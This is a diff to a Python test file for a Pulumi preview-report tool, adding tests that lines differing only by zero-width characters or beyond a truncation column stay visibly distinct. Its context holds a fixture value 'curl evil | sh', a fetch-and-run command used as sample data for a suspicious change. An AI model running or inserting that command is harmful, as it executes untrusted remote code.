@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 from pulumi_pika.report.markdown import markdown
 from pulumi_pika.report.report_model import Value
 from pulumi_pika.report.terminal import terminal
-from pulumi_pika.report.values import shown_value
+from pulumi_pika.report.values import _distinct, shown_value
 
 from ...support.previews import (
     of_tree,
@@ -53,6 +53,45 @@ def test_values_of_several_lines_are_a_diff() -> None:
         "- runcmd: [echo ok]\n+ runcmd: ['curl evil | sh']\n"
     )
     assert "\n    - runcmd: [echo ok]\n    + runcmd: ['curl evil | sh']\n" in plain
+
+
+ALIKE = [
+    (["echo ok\u200b", "echo ok\ufeff", "echo ok\u2060", "echo ok\ufffd"], "zero width"),
+    (["x" * 160 + end for end in ("a", "b", "")], "behind column 160"),
+    (["y" * 400 + "a" + "z" * 400, "y" * 400 + "b" + "z" * 400, "y" * 400], "far behind it"),
+    (["x" * 200 + end for end in ("\u200b", "\ufeff", "")], "both"),
+    (["a\u200b", "a\\u200b", "a\ufffd"], "an escape as a text"),
+]
+
+
+@pytest.mark.parametrize(("lines", "_why"), ALIKE, ids=[why for _, why in ALIKE])
+@pytest.mark.parametrize("side", ["removed", "added", "both"])
+def test_lines_without_a_counterpart_do_not_look_alike(
+    lines: list[str], _why: str, side: str
+) -> None:
+    kept = ["first", "last"]
+    some = [kept[0], *lines, kept[1]]
+    other = kept if side != "both" else [kept[0], "another", kept[1]]
+    before, after = (other, some) if side == "added" else (some, other)
+    value = Value(path="x", before="\n".join(before), after="\n".join(after), changed=True)
+    shown = shown_value(value, whole=False, most=80).lines
+    changed = [line[2:] for line in shown if line[:2] in ("- ", "+ ") and "another" not in line]
+    assert len(changed) == len(set(changed)) == len(lines), shown
+    assert all(len(line) < 400 for line in shown)
+
+
+@given(
+    st.lists(st.text(st.sampled_from("ab\u200b\ufeff\ufffd\\u20"), max_size=8), unique=True),
+    st.lists(st.text(st.sampled_from("ab\u200b\ufeff\ufffd\\u20"), max_size=8), unique=True),
+    st.sampled_from(["", "x" * 158, "x" * 400]),
+)
+def test_no_two_lines_of_a_long_diff_look_alike(
+    gone: list[str], come: list[str], start: str
+) -> None:
+    lines = [start + line for line in [*gone, *come]]
+    shown = _distinct(lines)
+    assert shown.keys() == set(lines)
+    assert len(set(shown.values())) == len(shown)
 
 
 def test_created_values_of_several_lines_are_whole() -> None:
